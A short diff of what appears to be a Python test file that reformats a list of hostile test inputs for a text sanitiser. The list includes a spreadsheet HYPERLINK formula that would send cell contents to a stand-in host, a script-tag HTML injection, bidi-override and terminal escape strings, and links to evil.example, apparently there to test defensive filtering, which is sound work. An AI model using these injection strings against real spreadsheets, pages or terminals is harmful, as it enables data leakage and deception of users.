@@ -33,8 +33,9 @@ FORMULA = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
 UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
                     "\ud800-\udfff\ufffe\uffff]")
 HUGE = "\ud800\u202e\x00=" * 50_000 + "x" * 1_000_000
-PAYLOADS = ["\ud800", "\udcff.py", "a\x00b", "\x1b[2J\x1b[31mred", "\u202eevil\u202c", "=HYPERLINK(\"http://x.example/?\"&A1,\"c\")",
-            "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1", "```\n# injected\n```", "</code><script>x</script>",
+PAYLOADS = ["\ud800", "\udcff.py", "a\x00b", "\x1b[2J\x1b[31mred", "\u202eevil\u202c",
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"c\")", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1",
+            "```\n# injected\n```", "</code><script>x</script>",
             "[click](http://evil.example)", "<http://evil.example>", "www.evil.example", "\r\n\r", "\ufffe\uffff",
             "`", "``x``", HUGE]
 
